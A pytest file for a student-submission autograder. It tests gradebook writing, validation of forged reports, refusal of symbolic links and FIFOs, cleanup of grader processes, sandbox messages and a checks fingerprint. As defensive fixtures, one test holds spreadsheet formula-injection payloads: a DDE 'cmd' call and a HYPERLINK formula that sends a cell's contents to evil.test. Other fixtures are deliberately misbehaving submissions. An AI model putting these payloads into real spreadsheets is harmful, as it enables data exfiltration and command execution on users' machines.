"""Batch grading of a class (what counts as a submission, what each grader ends with, the gradebook) and the
checks' fingerprint."""

from __future__ import annotations

import copy
import csv
import json
import os
import shutil
import subprocess
import sys
import time
from pathlib import Path

import pytest

from checks import batch
from checks.tools import grading, submissions, validation
from checks.tools.gradebook import Row, grade_all, grade_one, write_gradebook
from checks.tools.submissions import find_class, find_project
from checks.tools.validation import validated
from checks.fingerprint import fingerprint, published
from checks.reports.scorecard import MESSAGE_CAP
from tests.conftest import GRADED_IDS, ROOT
from tests.fake_grader import forged, honest

FAKE_GRADER = Path(__file__).with_name("fake_grader.py")
POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="symbolic links, FIFOs and signals as on POSIX")

pytestmark = pytest.mark.timeout(300)

MISBEHAVING = {
    "exits_itself.py": "import os\nos._exit(3)\n",
    "sleeps_forever.py": "import time\nwhile True:\n    time.sleep(1)\n",
    "eats_memory.py": "hog = []\nwhile True:\n    hog.append(' ' * 10**7)\n",
}


@pytest.fixture(scope="module")
def graded_class(tmp_path_factory, scenario_file):
    """A class of six: a correct solution in a folder, a known-bad file, a syntax error and three that misbehave."""
    folder = tmp_path_factory.mktemp("class")
    (folder / "alice").mkdir()
    shutil.copy(ROOT / "solutions" / "project.py", folder / "alice" / "project.py")
    shutil.copy(ROOT / "solutions" / "ANSWERS.md", folder / "alice" / "ANSWERS.md")
    shutil.copy(scenario_file("limited_in_batches"), folder / "bob.py")
    shutil.copy(scenario_file("syntax_error"), folder / "carol.py")
    for name, text in MISBEHAVING.items():
        (folder / name).write_text(text)
    before = {p: p.read_bytes() for p in folder.rglob("*") if p.is_file()}
    out = folder / "grades"
    results = grade_all(folder, out, jobs=2, time_limit=60, memory_mib=1024)
    return folder, out, {r.name: r for r in results}, before


def test_each_submission_gets_its_own_row_and_the_good_one_full_marks(graded_class) -> None:
    _, out, results, _ = graded_class
    assert set(results) == {"alice", "bob", "carol", "exits_itself", "sleeps_forever", "eats_memory"}
    assert results["alice"].total == 100 and results["alice"].note == ""
    assert results["bob"].total == 85 and results["bob"].scores["alter-2"] == 0
    with open(out / "gradebook.csv", newline="") as sheet:
        rows = {row["submission"]: row for row in csv.DictReader(sheet)}
    assert list(rows["alice"])[1:11] == GRADED_IDS
    assert list(rows["alice"])[11:] == ["explain", "total", "max", "notes"]
    assert rows["alice"]["total"] == "100" and rows["bob"]["alter-2"] == "0"
    assert rows["alice"]["explain"] == "answers written" and "answers missing" in rows["bob"]["explain"]


def test_misbehaving_submissions_are_reported_as_such(graded_class) -> None:
    _, _, results, _ = graded_class
    # Whether the grader process or only its worker dies depends on --official (being built): either way, said.
    assert "line 25: SyntaxError" in results["carol"].note
    assert "exit" in results["exits_itself"].note
    assert "did not finish" in results["sleeps_forever"].note or "time limit" in results["sleeps_forever"].note
    memory = results["eats_memory"].note
    assert "MemoryError" in memory or memory == grading.OUT_OF_MEMORY.format(mib=1024)
    assert all(results[n].total == 0 for n in ("carol", "exits_itself", "sleeps_forever", "eats_memory"))


def test_gradebook_json_keeps_every_message(graded_class) -> None:
    _, out, _, _ = graded_class
    book = json.loads((out / "gradebook.json").read_text())
    alter2 = next(i for i in book["bob"]["report"]["items"] if i["id"] == "alter-2")
    assert any("waited" in c["message"] for c in alter2["checks"])
    assert book["exits_itself"]["total"] == 0 and book["exits_itself"]["note"]
    assert book["alice"]["explain"] == "answers written" and book["alice"]["report"]["score"] == 100


def test_submissions_are_graded_on_copies_and_left_untouched(graded_class) -> None:
    folder, _, _, before = graded_class
    assert {p: p.read_bytes() for p in before} == before
    assert (folder / "grades" / "logs" / "alice.log").is_file()


# -- The parent trusts no report (no student code runs in these) -----------------------------------


def _without(report: dict, item_id: str) -> dict:
    report["items"] = [i for i in report["items"] if i["id"] != item_id]
    return report


def _base(report: dict) -> dict:
    return next(i for i in report["items"] if i["id"] == "base")


def _malformed() -> dict[str, tuple[object, str]]:
    """Broken or forged reports, each with the note its row must get."""
    unknown, duplicate, hacked, status, score, message = (honest() for _ in range(6))
    unknown["items"].append({**_base(unknown), "id": "bonus"})
    duplicate["items"].append(copy.deepcopy(_base(duplicate)))
    _base(hacked)["checks"][0]["outcome"] = "hacked"
    _base(status)["status"] = "excellent"
    score["score"] = "100"
    _base(message)["checks"][0]["message"] = None
    return {
        "not a dict": ([], "report unreadable: not a JSON object"),
        "no items": ({"score": 100}, "report unreadable: items missing"),
        "items a string": ({"items": "all passed"}, "report unreadable: items is not a list"),
        "unknown id": (unknown, "report unreadable: unknown item id 'bonus'"),
        "duplicate": (duplicate, "report unreadable: item 'base' appears twice"),
        "outcome hacked": (hacked, "report unreadable: item 'base', check 1 has outcome 'hacked'"),
        "status": (status, "report unreadable: item 'base' has status 'excellent'"),
        "score a string": (score, "report unreadable: score is not a number"),
        "item missing": (_without(honest(), "fix-3"), "report unreadable: item 'fix-3' missing"),
        "message not a string": (message, "report unreadable: item 'base', check 1: message is not a string"),
    }


@pytest.mark.parametrize("case", list(_malformed()))
def test_a_malformed_report_is_not_read(case: str) -> None:
    report, note = _malformed()[case]
    assert validated(report) == (None, note)


def test_scores_are_recomputed_from_check_outcomes_and_the_catalogue() -> None:
    report, note = validated(forged())
    assert note == "" and report["score"] == 80 and report["max_score"] == 100
    assert _base(report)["status"] == "failed" and _base(report)["score"] == 0
    claimed = honest()
    _base(claimed)["checks"] = []  # "passed" with no check behind it
    for item in claimed["items"]:
        item["max_score"] = item["score"] = 1000
    report, _ = validated(claimed)
    assert report["score"] == 80 and _base(report)["status"] == "ungraded"
    assert [i["max_score"] for i in report["items"]][:2] == [20, 5]


def test_a_report_keeps_only_so_much() -> None:
    long = honest()
    for item in long["items"]:
        item["checks"] = [{"name": "n" * 1000, "outcome": "failed", "message": "x" * 20_000} for _ in range(40)]
    report, note = validated(long)
    messages = [c["message"] for i in report["items"] for c in i["checks"]]
    assert note == "" and max(len(m) for m in messages) == MESSAGE_CAP + len(" [...]")
    assert sum(map(len, messages)) < validation.REPORT_MESSAGES_CAP + 10 * len(messages)
    assert max(len(c["name"]) for i in report["items"] for c in i["checks"]) <= validation.NAME_CAP + len(" [...]")


def test_the_gradebook_cannot_carry_a_formula(tmp_path: Path) -> None:
    scored, _ = validated(honest())
    rows = [
        Row("=cmd|' /C calc'!A0", None, note='=HYPERLINK("http://evil.test/?leak="&A1, "click")'),
        Row("bob", scored, note="-2+3\nsecond line", explain="@SUM(A1:A9)", scores={"base": 20}),
        Row("carol", None, note="\tTAB first", explain="+1"),
    ]
    write_gradebook(rows, tmp_path)
    with open(tmp_path / "gradebook.csv", newline="", encoding="utf-8") as sheet:
        evil, bob, carol = csv.DictReader(sheet)
    assert evil["submission"] == "'=cmd|' /C calc'!A0" and bob["total"] == "20"
    assert evil["notes"] == "'=HYPERLINK(\"http://evil.test/?leak=\"&A1, \"click\")"
    assert bob["notes"] == "'-2+3 second line" and bob["explain"] == "'@SUM(A1:A9)"
    assert carol["notes"] == "TAB first" and carol["explain"] == "'+1"
    assert not list(tmp_path.glob(".gradebook*"))  # written beside, then renamed over
    assert json.loads((tmp_path / "gradebook.json").read_text())["bob"]["total"] == 20


# -- Symbolic links and the output folder -----------------------------------------------------------


@POSIX_ONLY
def test_symbolic_links_are_refused_not_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / "trudy").mkdir(parents=True)
    shutil.copy(ROOT / "solutions" / "project.py", elsewhere / "trudy" / "project.py")
    secret = elsewhere / "secret.txt"
    secret.write_text("the instructor's answers\n")
    folder = tmp_path / "class"
    for name in ("mallory", "oscar", "peggy"):
        (folder / name).mkdir(parents=True)
    (folder / "mallory" / "project.py").symlink_to(ROOT / "solutions" / "project.py")
    (folder / "trudy").symlink_to(elsewhere / "trudy")
    (folder / "eve.py").symlink_to(secret)
    shutil.copy(ROOT / "solutions" / "project.py", folder / "oscar" / "project.py")
    (folder / "oscar" / "ANSWERS.md").symlink_to(secret)
    shutil.copy(ROOT / "solutions" / "project.py", folder / "peggy" / "project.py")
    os.mkfifo(folder / "peggy" / "ANSWERS.md")  # would block a reader forever
    (folder / "grades").mkdir()
    (folder / "grades" / "project.py").write_text("planted by an earlier run\n")
    results = {r.name: r for r in grade_all(folder, folder / "grades", grader=_fake("honest", tmp_path / "seen.json"))}
    assert results["mallory"].note == "refused: mallory/project.py is a symbolic link"
    assert results["trudy"].note == "refused: trudy is a symbolic link"
    assert results["eve"].note == "refused: eve.py is a symbolic link"
    assert results["oscar"].note == "refused: oscar/ANSWERS.md is a symbolic link"
    assert results["peggy"].note == "refused: peggy/ANSWERS.md is not a regular file"
    assert "grades" not in results and all(r.total == 0 and r.report is None for r in results.values())
    assert not (tmp_path / "seen.json").exists()  # no grader ran


def test_the_output_folder_and_shared_names_are_handled(tmp_path: Path) -> None:
    for path in ("results/project.py", "grades/project.py", "alice/project.py", "alice.py", "bob/project.py"):
        (tmp_path / path).parent.mkdir(exist_ok=True)
        (tmp_path / path).write_text("")
    found, passed_over = find_class(tmp_path, skip=tmp_path / "results")
    assert [(s.name, "/".join(s.project)) for s in found] == [
        ("alice", "alice.py"), ("alice~2", "alice/project.py"), ("bob", "bob/project.py"),
    ]
    # this run's output folder goes unsaid; one merely named like the default is passed over out loud
    assert passed_over == [f"grades/ ({submissions.OUTPUT_NAME})"]


# -- What counts as a submission: one rule for every entry, shared with the platforms ------------------

HANDED_IN = {
    # As a class really hands in: the reference where it belongs, the whole repository, the wrong case, a
    # loose file, a folder with no Python at all and one with two Python files but no project.py.
    "ivy/project.py": "solutions/project.py",
    "ivy/ANSWERS.md": "solutions/ANSWERS.md",
    "bob/starter/project.py": "starter/project.py",
    "bob/README.md": "# my fork\n",
    "carol/Project.py": "scenario:syntax_error",  # a file that does not import grades in a second
    "dave.py": "scenario:syntax_error",
    "erin/README.md": "I could not get it to work\n",
    "erin/notes.txt": "...\n",
    "frank/a.py": "print('a')\n",
    "frank/b.py": "print('b')\n",
    ".DS_Store": "",
}


@pytest.fixture(scope="module")
def handed_in(tmp_path_factory, scenario_file) -> tuple[Path, list[str], dict[str, dict[str, str]]]:
    """The class above through `python -m checks.batch DIR --in-process` (the sandbox is not what is tested
    here): its output lines and its gradebook's rows. Four real gradings, two of them files that do not import."""
    folder = tmp_path_factory.mktemp("handed-in")
    for target, source in HANDED_IN.items():
        path = folder / target
        path.parent.mkdir(parents=True, exist_ok=True)
        if source.startswith("scenario:"):
            shutil.copy(scenario_file(source.removeprefix("scenario:")), path)
        elif "/" in source:
            shutil.copy(ROOT / source, path)
        else:
            path.write_text(source)
    output = subprocess.run([sys.executable, "-m", "checks.batch", str(folder), "--in-process", "--jobs", "2"],
                            cwd=ROOT, capture_output=True, text=True, timeout=280)
    assert output.returncode == 0, output.stdout + output.stderr
    with open(folder / "grades" / "gradebook.csv", newline="") as sheet:
        rows = {row["submission"]: row for row in csv.DictReader(sheet)}
    return folder, output.stdout.splitlines(), rows


def test_every_entry_of_a_class_gets_a_row_that_says_what_was_graded(handed_in) -> None:
    _, lines, rows = handed_in
    assert list(rows) == ["dave", "bob", "carol", "erin", "frank", "ivy"]
    assert rows["ivy"]["total"] == "100" and rows["ivy"]["notes"] == ""
    assert rows["bob"]["total"] == "20" and rows["bob"]["notes"] == "graded bob/starter/project.py"
    # what was graded comes first in the note; why the file earned nothing (it does not import) may follow
    assert rows["carol"]["notes"].startswith("graded carol/Project.py") and not rows["dave"]["notes"].startswith("graded")
    assert rows["erin"]["notes"] == "no project.py: the folder holds README.md, notes.txt"
    assert rows["frank"]["notes"] == submissions.MANY_PYTHON.format(count=2, files="a.py, b.py")
    assert {rows[name]["total"] for name in ("carol", "dave", "erin", "frank")} == {"0"}
    assert lines[1] == "Not submissions, so no rows: .DS_Store (hidden)."
    assert sum(line.startswith("[") for line in lines) == 6
    assert lines[-1].startswith("6 submissions in ") and ": 4 graded, 2 with nothing to grade. Gradebook: " in lines[-1]


def test_the_platform_finder_picks_the_file_the_batch_grades(handed_in) -> None:
    """Gradescope and PrairieLearn see one student's folder as the batch sees that student's entry."""
    folder, _, _ = handed_in
    for submission in find_class(folder)[0]:
        if (folder / submission.name).is_dir():
            found = find_project(folder / submission.name)
            assert _under(submission.name, found.project) == submission.project, submission
            assert _under(submission.name, found.answers) == submission.answers, submission
    assert find_project(folder / "bob").note == "graded starter/project.py"


def _under(name: str, path: tuple[str, ...] | None) -> tuple[str, ...] | None:
    return None if path is None else (name, *path)


def _tree(folder: Path, *paths: str) -> Path:
    for path in paths:
        (folder / path).parent.mkdir(parents=True, exist_ok=True)
        (folder / path).write_text("")
    return folder


def test_the_shallowest_project_py_wins_and_a_tie_is_broken_by_spelling_then_name(tmp_path: Path) -> None:
    _tree(tmp_path, "deep/er/project.py", "b/PROJECT.py", "a/Project.py", "c/project.py", "c/answers.md", "ANSWERS.md")
    found = find_project(tmp_path, "kim")
    assert found.project == ("c", "project.py") and found.answers == ("c", "answers.md")
    assert found.note == "graded kim/c/project.py, the first of 3 at that depth (also kim/a/Project.py, kim/b/PROJECT.py)"


def test_hidden_and_tool_folders_are_not_searched_and_a_lone_python_file_is_graded(tmp_path: Path) -> None:
    _tree(tmp_path, "__MACOSX/._project.py", ".git/project.py", ".ipynb_checkpoints/project-checkpoint.py",
          "week3/main.py", "ANSWERS.md", "notes.txt")
    found = find_project(tmp_path)
    assert found.project == ("week3", "main.py") and found.answers == ("ANSWERS.md",)
    assert found.note == "graded week3/main.py: no project.py, and it is the only Python file"


def test_a_folder_with_nothing_to_grade_says_what_it_holds(tmp_path: Path, monkeypatch) -> None:
    assert find_project(_tree(tmp_path / "empty")).note == submissions.EMPTY
    many = _tree(tmp_path / "many", *(f"page{n}.html" for n in range(7)))
    assert find_project(many) == submissions.Found(None, note="no project.py: the folder holds page0.html, "
                                                   "page1.html, page2.html, page3.html, page4.html and 2 more")
    monkeypatch.setattr(submissions, "SEARCH_CAP", 3)
    assert find_project(many).note.endswith(" (only the first 3 entries were searched)")


def test_loose_files_that_are_not_python_get_a_row_and_keep_names_apart(tmp_path: Path) -> None:
    _tree(tmp_path, "gina.zip", "gina/README.md", "hal.PY")
    found, _ = find_class(tmp_path)
    assert [(s.name, s.project, s.note) for s in found] == [
        ("hal", ("hal.PY",), ""),
        ("gina", None, "no project.py: the folder holds README.md"),
        ("gina.zip", None, submissions.NOT_A_FOLDER),
    ]


def test_the_last_line_counts_every_kind_of_row_and_one_submission_is_singular() -> None:
    graded, _ = validated(honest())
    rows = [Row("ann", graded, scores={"base": 20}), Row("ben", None, "no project.py", found=False),
            Row("cy", None, "refused: cy is a symbolic link")]
    assert batch.summary(rows[:1], 60, 2, Path("g.csv")) == (
        "1 submission in 60 s (1.0 per minute) with --jobs 2: 1 graded. Gradebook: g.csv")
    assert batch.summary(rows, 60, 1, Path("g.csv")).startswith(  # the rate counts the entries with a file
        "3 submissions in 60 s (2.0 per minute) with --jobs 1: 1 graded, 1 with nothing to grade, 1 not graded")
    assert batch.summary(rows[1:2], 0.01, 2, Path("g.csv")) == (
        "1 submission in 0 s with --jobs 2: 1 with nothing to grade. Gradebook: g.csv")


def test_a_python_without_the_graders_libraries_stops_the_batch_in_one_line(tmp_path: Path, monkeypatch, capsys) -> None:
    from checks.tools import preflight

    (tmp_path / "ann.py").write_text("")
    monkeypatch.setattr(preflight, "NEEDED", (*preflight.NEEDED, "no_such_library_here"))
    assert batch.main([str(tmp_path), "--in-process"]) == 2
    said = capsys.readouterr()
    assert said.out == "" and len(said.err.splitlines()) == 1 and "no_such_library_here" in said.err
    assert "pip install -r requirements.txt" in said.err and not (tmp_path / "grades").exists()


# -- What a grader ends with (a stand-in grader: no student code runs) -------------------------------


def _fake(mode: str, record: Path) -> list[str]:
    return [sys.executable, str(FAKE_GRADER), mode, str(record)]


def _one(tmp_path: Path, mode: str, **options) -> tuple[Row, dict]:
    """Grade a folder submission with the stand-in grader in `mode`; the row, and what the stand-in was given."""
    (tmp_path / "class" / "alice").mkdir(parents=True, exist_ok=True)
    shutil.copy(ROOT / "solutions" / "project.py", tmp_path / "class" / "alice" / "project.py")
    shutil.copy(ROOT / "solutions" / "ANSWERS.md", tmp_path / "class" / "alice" / "ANSWERS.md")
    record = tmp_path / f"{mode}.json"
    alice = tmp_path / "class" / "alice"
    graded = grade_one("alice", alice / "project.py", tmp_path / "out", root=tmp_path / "class",
                       answers=alice / "ANSWERS.md", grader=_fake(mode, record), **options)
    return graded, json.loads(record.read_text()) if record.exists() else {}


def test_a_forged_report_gets_the_recomputed_score(tmp_path: Path, monkeypatch) -> None:
    monkeypatch.setenv("INSTRUCTOR_TOKEN", "not for graders")
    monkeypatch.setenv("PYTHONDONTWRITEBYTECODE", "1")
    graded, seen = _one(tmp_path, "forged")
    assert graded.total == 80 and graded.scores["base"] == 0 and graded.note == ""
    assert graded.report["score"] == 80 and graded.explain == "answers written"
    assert "--official" in seen["argv"] and "--require-sandbox" not in seen["argv"]
    assert seen["files"] == ["ANSWERS.md", "project.py"] and seen["cache_is_folder"]
    assert "INSTRUCTOR_TOKEN" not in seen["env"] and "PYTHONDONTWRITEBYTECODE" not in seen["env"]
    assert set(seen["env"]) <= {"PATH", "HOME", "LANG", "TMPDIR", "VIRTUAL_ENV", "PYTHONPYCACHEPREFIX"} | {
        k for k in seen["env"] if k.startswith("LC_")}
    assert not Path(seen["env"]["PYTHONPYCACHEPREFIX"]).exists()  # removed after
    assert (tmp_path / "out" / "logs" / "alice.log").is_file()


def test_the_mode_options_reach_the_grader(tmp_path: Path) -> None:
    _, seen = _one(tmp_path, "honest", official=False)
    assert "--official" not in seen["argv"]
    _, seen = _one(tmp_path, "honest", require_sandbox=True)
    assert "--official" in seen["argv"] and "--require-sandbox" in seen["argv"]
    assert not any(a.startswith("--groups") for a in seen["argv"])  # the grader's own default
    _, seen = _one(tmp_path, "honest", groups="1")
    assert "--groups=1" in seen["argv"]


@pytest.mark.parametrize("groups", ["0", "two", "-1"])
def test_groups_must_be_a_count_or_off(tmp_path: Path, groups: str) -> None:
    (tmp_path / "alice.py").write_text("")
    done = subprocess.run([sys.executable, "-m", "checks.batch", str(tmp_path), "--groups", groups],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)
    assert done.returncode == 2 and "--groups one from 1 or 'off'" in done.stderr
    assert not (tmp_path / "grades").exists()


@POSIX_ONLY
@pytest.mark.parametrize(("mode", "note"), [
    ("sleep", "stopped at the time limit of 2 s"),
    ("memory", "ran out of memory (cap 1024 MiB)"),
    ("sigterm", "killed by SIGTERM, not by the batch grader (from another process?)"),
    ("exit3", "the grader exited with status 3 before writing a report"),
    ("silent", "report unreadable: no report written"),
    ("garbage", "report unreadable: not valid JSON"),
    ("fifo", "report unreadable: grade.json is not a regular file"),
    ("link", "report unreadable: grade.json is a symbolic link"),
])
def test_each_ending_is_labelled_by_its_cause(tmp_path: Path, mode: str, note: str) -> None:
    graded, _ = _one(tmp_path, mode, time_limit=2, memory_mib=1024)
    assert graded.note == note and graded.total == 0 and graded.report is None


@POSIX_ONLY
def test_nothing_a_grader_started_outlives_it(tmp_path: Path) -> None:
    graded, seen = _one(tmp_path, "straggler")
    assert graded.total == 100 and graded.note == ""
    assert _gone(seen["straggler"])


def _gone(pid: int, wait: float = 5.0) -> bool:
    """True once pid is no process, or only a zombie waiting for init to reap it."""
    deadline = time.monotonic() + wait
    while time.monotonic() < deadline:
        try:
            state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
        except (OSError, IndexError):
            try:
                os.kill(pid, 0)
            except ProcessLookupError:
                return True
            state = "?"
        if state == "Z":
            return True
        time.sleep(0.05)
    return False


@POSIX_ONLY
def test_a_stopped_batch_stops_its_graders(tmp_path: Path) -> None:
    (tmp_path / "class").mkdir()
    (tmp_path / "class" / "ann.py").write_text("")
    record = tmp_path / "seen.json"
    script = (f"import sys; from checks import batch; from checks.tools import grading; "
              f"grading.GRADER = {tuple(_fake('sleep', record))!r}; "
              f"sys.exit(batch.main([{str(tmp_path / 'class')!r}, '--in-process', '--time-limit', '100']))")
    process = subprocess.Popen([sys.executable, "-c", script], cwd=ROOT, stdout=subprocess.DEVNULL)
    try:
        deadline = time.monotonic() + 30
        while not record.exists() and time.monotonic() < deadline:
            time.sleep(0.05)
        time.sleep(0.2)
        grader = json.loads(record.read_text())["pid"]
        process.terminate()
        assert process.wait(timeout=20) != 0
    finally:
        process.kill()
    assert _gone(grader)


def test_every_row_is_written_whatever_the_graders_do(tmp_path: Path) -> None:
    folder = tmp_path / "class"
    folder.mkdir()
    for name in ("ann", "ben"):
        (folder / f"{name}.py").write_text("")
    results = grade_all(folder, tmp_path / "out", grader=_fake("garbage", tmp_path / "seen.json"))
    with open(tmp_path / "out" / "gradebook.csv", newline="") as sheet:
        rows = list(csv.DictReader(sheet))
    assert [r["submission"] for r in rows] == ["ann", "ben"] and {r.total for r in results} == {0}
    assert {r["notes"] for r in rows} == {"report unreadable: not valid JSON"}


# -- The command line --------------------------------------------------------------------------------


def test_the_first_line_says_whether_submissions_run_sandboxed(tmp_path: Path, monkeypatch, capsys) -> None:
    (tmp_path / "ann.py").write_text("")
    monkeypatch.setattr(grading, "GRADER", tuple(_fake("honest", tmp_path / "seen.json")))
    monkeypatch.setattr(batch.sandbox, "available", lambda: (False, "not Linux (testing)"))
    assert batch.main([str(tmp_path), "--require-sandbox"]) == 2
    refused = capsys.readouterr()
    assert refused.out == "" and "--require-sandbox" in refused.err and "not Linux (testing)" in refused.err
    assert batch.main([str(tmp_path)]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines[0].startswith("Sandbox: OFF (not Linux (testing)). Each submission still runs in its own worker")
    assert lines[1].startswith("[1/1] ann") and "100/100" in lines[1]
    assert lines[2].startswith("1 submission in ") and ": 1 graded. Gradebook: " in lines[2]
    assert batch.main([str(tmp_path), "--in-process"]) == 0
    assert capsys.readouterr().out.startswith("Sandbox: OFF (--in-process)")
    monkeypatch.setattr(batch.sandbox, "available", lambda: (True, "bubblewrap: testing"))
    assert batch.main([str(tmp_path), "--require-sandbox"]) == 0
    assert capsys.readouterr().out.startswith("Sandbox: on (bubblewrap: testing)\n")
    with pytest.raises(SystemExit):
        batch.main([str(tmp_path), "--in-process", "--require-sandbox"])


def test_fingerprint_is_stable_and_changes_with_any_check(tmp_path) -> None:
    copy = tmp_path / "tree"
    for name in ("checks", "requirements.txt", "pyproject.toml", "conftest.py"):
        source = ROOT / name
        if source.is_dir():
            shutil.copytree(source, copy / name, ignore=shutil.ignore_patterns("__pycache__"))
        else:
            shutil.copy(source, copy / name)
    assert fingerprint(copy) == fingerprint(copy) == fingerprint(ROOT)
    with open(copy / "checks" / "catalogue.py", "a") as edited:
        edited.write("\n# one more line\n")
    assert fingerprint(copy) != fingerprint(ROOT)
    crlf = (copy / "requirements.txt")
    crlf.write_bytes((ROOT / "requirements.txt").read_bytes().replace(b"\n", b"\r\n"))
    (copy / "checks" / "catalogue.py").write_bytes((ROOT / "checks" / "catalogue.py").read_bytes())
    assert fingerprint(copy) == fingerprint(ROOT)  # a Windows checkout agrees


def test_readme_publishes_the_current_fingerprint() -> None:
    assert published() == fingerprint(), "checks changed: update 'Checks fingerprint' in README.md"


def test_fingerprint_command_verifies() -> None:
    current = fingerprint()
    ok = subprocess.run([sys.executable, "-m", "checks.fingerprint", "--verify", current], cwd=ROOT, capture_output=True, text=True)
    bad = subprocess.run([sys.executable, "-m", "checks.fingerprint", "--verify", "0" * 64], cwd=ROOT, capture_output=True, text=True)
    assert ok.returncode == 0 and bad.returncode == 1 and "differ" in bad.stderr
